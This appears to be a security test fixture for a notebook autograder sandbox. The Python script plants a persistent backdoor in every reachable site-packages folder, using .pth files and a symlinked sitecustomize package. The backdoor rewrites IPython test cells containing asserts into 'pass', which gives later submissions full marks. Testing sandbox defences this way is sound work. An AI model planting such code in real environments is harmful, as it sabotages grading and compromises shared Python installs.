# attack: plant code that every later grader kernel started from that Python runs, turning test cells into `pass`
#   (the next student, who submits the empty release, gets full marks): a .pth file in every site-packages folder it
#   can reach, and a link named `sitecustomize` there to a package folder of its own (a link to a folder is a path
#   that a walk of the venv lists as a folder and never enters)
# defended-by: sandbox
#   (with bubblewrap the venv is a read-only bind; as the separate user it is not writable; unprotected, the course
#   guard's StartupWatch removes both after this submission, before the next one starts, and names them.
#   The backdoor acts only in processes that carry this grading's DTLABS_TEST_TOKEN, so that a test which lets it be
#   written cannot reach other tests sharing the venv; without a token, as in a real class, it acts in every kernel)
import os
import site
import sys
import tempfile

_token = os.environ.get("DTLABS_TEST_TOKEN")
_payload = (
    "import IPython.core.interactiveshell as _s\n"
    "_t = _s.InteractiveShell.transform_cell\n"
    "_s.InteractiveShell.transform_cell = lambda self, cell: 'pass\\n' if 'assert' in cell else _t(self, cell)\n"
)
_line = (f"import os, sys; exec({_payload!r}, {{}}) if os.environ.get('DTLABS_TEST_TOKEN') == {_token!r} "
         "and '-f' in sys.argv else None\n")
_package = tempfile.mkdtemp()
with open(os.path.join(_package, "__init__.py"), "w") as _fh:
    _fh.write(_line)
_dirs = set(site.getsitepackages()) | {p for p in sys.path if p.endswith(("site-packages", "dist-packages"))}
for _dir in sorted(_dirs):
    try:
        with open(os.path.join(_dir, "zz_dtlabs_backdoor.pth"), "w") as _fh:
            _fh.write(_line)
        print("backdoor in", _dir)
    except OSError as _exc:
        print("could not write", _dir, _exc)
    try:
        os.symlink(_package, os.path.join(_dir, "sitecustomize"), target_is_directory=True)
        print("linked sitecustomize in", _dir)
    except OSError as _exc:
        print("could not link", _dir, _exc)
